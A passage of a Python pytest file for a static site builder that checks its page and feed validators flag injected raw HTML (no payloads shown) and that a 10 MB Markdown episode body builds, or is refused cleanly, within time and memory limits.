    assert "</article>" in html
    page.write_text(html.replace("</article>", RAW_LIVE[name] + "</article>", 1), "utf-8")
    assert page_problems(out, theme), name
    if name == "dom-clobbering":
        return  # an id in a feed's HTML shadows nothing: apps render it on its own
    feed = out / "feed.xml"
    escaped = RAW_LIVE[name].replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    feed.write_text(
        feed.read_text(encoding="utf-8").replace("<description>", f"<description>{escaped}", 1),
        "utf-8",
    )
    assert feed_problems(out), name


# --- a very large body ---------------------------------------------------------------------------

BIG_BODY_TEST = "test_a_10_mb_markdown_body_builds_in_bounded_time_and_memory"


def _ten_megabytes_of_markdown() -> str:
    block = (
        "## A heading {n}\n\n"
        "Some *emphasis*, a [link](https://example.org/{n}), `code` and **strong** words that go"
        " on for a while, as show notes do when they are pasted from a transcript.\n\n"
        "- a list item\n- another, with [a link](https://example.org/item/{n})\n\n"
    )
    parts, size, n = [], 0, 0
    while size < 10_000_000:
        part = block.format(n=n)
        parts.append(part)
        size += len(part)
        n += 1
    return "".join(parts)


@dataclass
class Background:
    """A child process checking and building a site, started early so it overlaps other tests."""

    root: Path
    before: set[str]
    process: subprocess.Popen[str] | None


@pytest.fixture(scope="module", autouse=True)
def big_body_build(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Background | None]:
    """Start the 10 MB build when this module starts, if its test was selected."""
    if not any(
        getattr(item, "originalname", "") == BIG_BODY_TEST for item in request.session.items
    ):
        yield None
        return
    root = copy_fixture_site(tmp_path_factory.mktemp("big-body") / "src")
    append_body(EPISODE, _ten_megabytes_of_markdown())(root)
    before = prepare_old_site(root)
    process = subprocess.Popen(
        measure_command(root),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    background = Background(root, before, process)
    yield background
    if process.poll() is None:  # the test did not wait for it (deselected or failed early)
        process.kill()
        process.communicate()


def test_a_10_mb_markdown_body_builds_in_bounded_time_and_memory(
    big_body_build: Background | None,
) -> None:
    assert big_body_build is not None and big_body_build.process is not None
    out, err = big_body_build.process.communicate(timeout=WALL_LIMIT + 30)
    report = read_report(big_body_build.process.returncode, out, err)
    assert report["check_crash"] is None
    if report["build"] == "aborted":  # refusing it is fine, with a message naming the file
        assert any(m.startswith(f"{EPISODE}:") for m in report["messages"]), report["messages"]
        assert_nothing_written(big_body_build.root, big_body_build.before)
    else:
        assert report["build"] == "built", report["build"]
        assert report["messages"] == []
